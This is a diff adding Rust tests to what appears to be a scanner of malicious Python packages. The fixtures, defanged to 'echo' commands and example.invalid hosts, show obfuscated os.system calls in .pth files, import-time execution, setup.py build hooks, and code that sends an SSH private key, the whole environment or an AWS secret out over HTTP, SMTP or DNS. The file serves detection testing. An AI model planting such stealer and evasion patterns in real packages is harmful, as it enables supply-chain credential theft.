@@ -1,0 +1,199 @@
+//! Placements and spellings that ran code while the scanner graded them low or missed them:
+//! computed calls in `.pth` import lines, code that runs at definition time or is called where
+//! it is written, whole-environment dumps sent out, network words beyond `requests`, spaced
+//! calls in large modules, install hooks on build commands, shell argv lists, and console
+//! scripts that shadow a command under another spelling. Fixtures are written here, defanged
+//! (commands only `echo`, hosts under `example.invalid`), and scanned; nothing is executed.
+
+use airlock::analyse::BudgetLimits;
+use airlock::finding::Severity;
+use airlock::scan::scan_file;
+
+/// The worst severity of `rule` anywhere in the report of `data` written as `name`.
+fn worst(name: &str, data: &[u8], rule: &str) -> Option<Severity> {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let p = dir.path().join(name);
+    if let Some(parent) = p.parent() {
+        std::fs::create_dir_all(parent).expect("mkdir");
+    }
+    std::fs::write(&p, data).expect("write");
+    let r = scan_file(&p, BudgetLimits::default());
+    r.findings
+        .iter()
+        .filter(|f| f.rule.id == rule)
+        .map(|f| f.severity)
+        .max()
+}
+
+fn assert_at_least(name: &str, src: &str, rule: &str, min: Severity) {
+    let got = worst(name, src.as_bytes(), rule);
+    assert!(
+        got.is_some_and(|s| s >= min),
+        "{name}: {rule} {got:?}, wanted at least {min:?}\n{src}"
+    );
+}
+
+/// A module over the small-source size, the code at its end.
+fn large(code: &str) -> String {
+    let mut s = String::from("\"\"\"");
+    s.push_str(&"Documentation line for the module.\n".repeat(150));
+    s.push_str("\"\"\"\n");
+    for i in 0..200 {
+        s.push_str(&format!("def helper_{i}(x):\n    return x + {i}\n\n"));
+    }
+    s.push_str(code);
+    s
+}
+
+#[test]
+fn pth_lines_that_compute_what_they_run_are_high() {
+    for line in [
+        "import os; getattr(os, ''.join(map(chr,[115,121,115,116,101,109])))('echo airlock-test')",
+        "import os; (lambda f: f('echo airlock-test'))(os.system)",
+        "import os; exec('os.sys'+'tem(\"echo airlock-test\")')",
+        "import os; f = 'sys'; getattr(os, f + 'tem')('echo airlock-test')",
+        "import os; __import__(''.join(['o', 's'])).system('echo airlock-test')",
+        "import os; vars(os)[chr(115) + 'ystem']('echo airlock-test')",
+    ] {
+        assert_at_least(
+            "hook.pth",
+            &format!("{line}\n"),
+            "pth-executable-line",
+            Severity::High,
+        );
+    }
+}
+
+#[test]
+fn a_pth_line_that_execs_a_literal_stays_low() {
+    // coverage's and the like: the literal is analysed, and is clean.
+    let src = "import os; exec(os.environ.get('COVERAGE_PROCESS_START') and 'import coverage; coverage.process_startup()' or '')\n";
+    assert_eq!(
+        worst("a1_coverage.pth", src.as_bytes(), "pth-executable-line"),
+        Some(Severity::Low)
+    );
+}
+
+#[test]
+fn a_pth_line_sending_a_key_out_is_a_stealer() {
+    assert_at_least(
+        "hook.pth",
+        "import urllib.request as u; u.urlopen('https://example.invalid/x?k='+open('/root/.ssh/id_rsa').read())\n",
+        "python-credential-stealer",
+        Severity::Critical,
+    );
+    assert_at_least(
+        "hook.pth",
+        "import urllib.request as u; u.urlopen('https://example.invalid/ping')\n",
+        "python-network-at-load",
+        Severity::High,
+    );
+}
+
+#[test]
+fn code_that_runs_at_import_outside_the_top_level_is_not_latent() {
+    let c = "'echo airlock-test'";
+    for (case, src) in [
+        (
+            "default-arg",
+            format!("import os\ndef f(x=os.system({c})):\n    pass\n"),
+        ),
+        (
+            "lambda-iife",
+            format!("import os\n(lambda: os.system({c}))()\n"),
+        ),
+        (
+            "lambda-called",
+            format!("import os\nrun = lambda: os.system({c})\nrun()\n"),
+        ),
+        (
+            "if-not-main",
+            format!("import os\nif __name__ != '__main__':\n    os.system({c})\n"),
+        ),
+        (
+            "else-of-main",
+            format!("import os\nif __name__ == '__main__':\n    pass\nelse:\n    os.system({c})\n"),
+        ),
+    ] {
+        assert_at_least(
+            &format!("{case}.py"),
+            &src,
+            "python-shell-command",
+            Severity::High,
+        );
+        assert_at_least(
+            &format!("large-{case}.py"),
+            &large(&src),
+            "python-shell-command",
+            Severity::High,
+        );
+    }
+    // The body of a main guard stays latent.
+    assert_eq!(
+        worst(
+            "script.py",
+            format!("import os\nif __name__ == '__main__':\n    os.system({c})\n").as_bytes(),
+            "python-shell-command"
+        ),
+        Some(Severity::Low)
+    );
+}
+
+#[test]
+fn a_blank_between_a_callable_and_its_paren_does_not_hide_it_in_a_large_module() {
+    for code in [
+        "import os\nos.system ('echo airlock-test')\n",
+        "import os\nos.system\t('echo airlock-test')\n",
+        "import os\nx = (os.system  # run it\n    ('echo airlock-test'))\n",
+        "import subprocess\nsubprocess.Popen ('echo airlock-test', shell=True)\n",
+    ] {
+        assert_at_least(
+            "core.py",
+            &large(code),
+            "python-shell-command",
+            Severity::High,
+        );
+    }
+}
+
+#[test]
+fn the_environment_sent_out_is_a_stealer() {
+    for src in [
+        "import os, requests\nrequests.post('https://example.invalid/c', json=dict(os.environ))\n",
+        "import os, json, urllib3\nurllib3.PoolManager().request('POST', 'https://example.invalid/c', body=json.dumps(dict(os.environ)))\n",
+        "import os, urllib.request\nurllib.request.build_opener().open('https://example.invalid/c', data=str(dict(os.environ)).encode())\n",
+        "import os, smtplib\ns = smtplib.SMTP('example.invalid')\ns.sendmail('a@example.invalid', ['b@example.invalid'], str(dict(os.environ)))\n",
+    ] {
+        assert_at_least("steal.py", src, "python-credential-stealer", Severity::Critical);
+    }
+    assert_at_least(
+        "dns.py",
+        "import os, socket\nsocket.gethostbyname(os.environ.get('AWS_SECRET_ACCESS_KEY','x')[:40] + '.example.invalid')\n",
+        "python-network-at-load",
+        Severity::Medium,
+    );
+}
+
+#[test]
+fn a_shell_argv_list_is_a_shell_command() {
+    assert_at_least(
+        "sitecustomize.py",
+        "import subprocess\nsubprocess.Popen(['sh','-c','echo airlock-test'])\n",
+        "python-shell-command",
+        Severity::High,
+    );
+    assert_at_least(
+        "hook.pth",
+        "import subprocess; subprocess.Popen(['/bin/bash', '-c', 'echo airlock-test'])\n",
+        "python-shell-command",
+        Severity::High,
+    );
+}
+
+#[test]
+fn build_command_hooks_that_run_commands_are_high() {
+    let src = "from setuptools import setup\nfrom setuptools.command.build_py import build_py\nimport os\nclass B(build_py):\n    def run(self):\n        os.system('echo airlock-test')\n        super().run()\nsetup(name='x', version='1.0', cmdclass={'build_py': B})\n";
+    assert_at_least("setup.py", src, "setup-install-hook", Severity::High);
+    let src = "import setuptools, os\ncmds = {}\ncmds['bdist_wheel'] = type('W', (object,), {'run': lambda self: os.system('echo airlock-test')})\nsetuptools.setup(name='x', version='1.0', cmdclass=cmds)\n";
+    assert_at_least("setup.py", src, "setup-install-hook", Severity::High);
+}
